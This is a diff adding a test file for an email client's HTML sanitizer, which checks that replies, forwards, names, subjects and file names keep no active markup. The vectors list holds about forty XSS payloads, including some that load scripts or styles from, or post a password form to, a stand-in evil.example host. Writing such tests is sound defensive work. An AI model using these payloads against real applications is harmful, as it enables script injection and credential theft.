@@ -1,0 +1,156 @@
+import { describe, expect, it } from "vitest";
+import { sanitize } from "#shared/adapters/html/sanitize.ts";
+import { attributes } from "#shared/domain/mail/html/attribute.ts";
+import { scanHtml } from "#shared/domain/mail/html/scan.ts";
+import { composeForward } from "#shared/domain/mail/write/compose/compose-forward.ts";
+import { composeReply } from "#shared/domain/mail/write/compose/compose-reply.ts";
+import { aMessage } from "./conversation.ts";
+
+const vectors = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=x onerror=alert(1)//",
+  "<img/src/onerror=alert(1)>",
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+  "<body onload=alert(1)>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href=" &#1; javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width:expression(alert(1));color:red">x</div>',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
+  '<div style="background:\\75rl(https://evil.example)">x</div>',
+  "<style>@import 'https://evil.example/x.css';</style>",
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<template><script>alert(1)</script></template>",
+  '"><script>alert(1)</script>',
+  "'-alert(1)-'",
+  "</blockquote></div></body></html><script>alert(1)</script>",
+  "<!--><script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<details open ontoggle=alert(1)>",
+  "<a id=x name=y class=z href=https://ok.example>x</a>",
+  '<input autofocus onfocus="alert(1)">',
+  "<plaintext><script>alert(1)</script>",
+];
+
+const safeTags = new Set(
+  "p div span br blockquote b strong i em u a img ul ol li table tbody tr td th h1 h2 h3 pre code font center hr small".split(" "),
+);
+const safeAttributes = new Set("href src alt style dir title class data-quote type color width height align".split(" "));
+
+/** Every tag of the html that could do more than show words. */
+function activeParts(html: string): string[] {
+  return [...scanHtml(html)]
+    .filter(({ kind }) => kind !== "text")
+    .filter((token) => {
+      const given = token.kind === "open" ? [...attributes(html, token)] : [];
+      return !(
+        safeTags.has(token.name) &&
+        given.every(
+          ([name, value]) =>
+            safeAttributes.has(name) &&
+            (name !== "href" || /^(?:https?|mailto):/.test(value)) &&
+            (name !== "src" || /^(?:https?:|data:image\/png)/.test(value)) &&
+            (name !== "style" || !/url|expression|position|\\|import/i.test(value)),
+        )
+      );
+    })
+    .map(({ start, end }) => html.slice(start, end));
+}
+
+describe("sanitize", () => {
+  it.each(vectors)("leaves nothing active of %j as a body, in a reply and a forward", (vector) => {
+    const messages = [aMessage({ text: "", html: `before ${vector} after` }), aMessage({ text: vector, html: "" })];
+    const draft = { content: { text: "new", html: "" }, history: messages, messages, quoteHistory: true, quoteTimezone: "UTC" };
+
+    expect(activeParts(sanitize(vector))).toEqual([]);
+    expect(activeParts(composeReply(draft, sanitize).html)).toEqual([]);
+    expect(activeParts(composeForward(draft, sanitize).html)).toEqual([]);
+  });
+
+  it.each(vectors)("leaves nothing active of %j as a name, a subject or a file name", (vector) => {
+    const who = { name: vector, email: vector };
+    const messages = [aMessage({ from: who, to: [who], cc: [who], subject: vector, attachments: [{ filename: vector, size: 1 }] })];
+    const draft = { content: { text: "new", html: "" }, history: messages, messages, quoteHistory: true, quoteTimezone: "UTC" };
+
+    expect(activeParts(composeReply(draft, sanitize).html)).toEqual([]);
+    expect(activeParts(composeForward(draft, sanitize).html)).toEqual([]);
+  });
+
+  it("would see an active part that came through", () => {
+    expect(activeParts("<p onclick=x>")).toHaveLength(1);
+    expect(activeParts("<script>x</script>")).toHaveLength(2);
+    expect(activeParts('<a href="javascript:x">')).toHaveLength(1);
+  });
+
+  it.each([
+    ['<p style="color: #06c; margin: 0 10px">a</p>', '<p style="color: #06c;margin: 0 10px">a</p>'],
+    ["<td style=\"font-family:'Arial', sans-serif;background-color:rgb(1, 2, 3)\">a</td>", undefined],
+    ['<p style="margin-top:-900px;color:red">a</p>', '<p style="color:red">a</p>'],
+    ['<a href="https://x.y/?a=1&amp;b=2">a</a> <a href="mailto:a@b.c">b</a>', undefined],
+    ['<a href="/logout">a</a> <a href="#top">b</a>', "<a>a</a> <a>b</a>"],
+    ['<img src="https://x.y/z.png" alt="z" />', undefined],
+    ['<img src="tracker.gif" alt="z" />', "<span>z</span>"],
+    ['<img src="data:image/png;base64,iVBORw0KGgo=" />', undefined],
+    ['<img src="cid:logo@x" alt="Logo" />', "<span>[image: Logo]</span>"],
+    ['<center><font color="red">old</font></center>', undefined],
+    ["<custom>words</custom> <section>stay</section>", "words <section>stay</section>"],
+    ["<b>open", "<b>open</b>"],
+    ["a </div></blockquote> b", "a  b"],
+    ["<title>gone</title><style>gone</style>stays", "stays"],
+  ])("makes of %j what mail needs", (html, expected) => {
+    expect(sanitize(html)).toBe(expected ?? html);
+  });
+
+  it("passes on the words of html that is nested beyond reason", () => {
+    expect(sanitize(`${"<div>".repeat(5_000)}deep &amp; lost`)).toBe("<div>deep &amp; lost</div>");
+  });
+
+  it("drops elements below 200 levels and keeps their words", () => {
+    const html = sanitize(`${"<div>".repeat(500)}word${"</div>".repeat(500)}`);
+
+    expect(html.match(/<div>/g)).toHaveLength(200);
+    expect(html).toContain("word");
+  });
+
+  it.each(["<div>", "<b><i></b>", "<div></x>", "<svg><style>", "<table><tr><td>", "<a href=http://x>", '<p style="color:red;">', "<!--"])(
+    "takes bounded time on 1 MB of %j",
+    (piece) => {
+      const start = performance.now();
+
+      sanitize(piece.repeat(1_000_000 / piece.length));
+
+      expect(performance.now() - start).toBeLessThan(4_000);
+    },
+  );
+
+  it("composes from 5 MB of < in bounded time, by leaving it out", () => {
+    const start = performance.now();
+
+    const { html } = composeForward(
+      { content: { text: "FYI", html: "" }, messages: [aMessage({ text: "", html: "<".repeat(5_000_000) })] },
+      sanitize,
+    );
+
+    expect(html).toContain("too long to be included");
+    expect(performance.now() - start).toBeLessThan(4_000);
+  });
+});
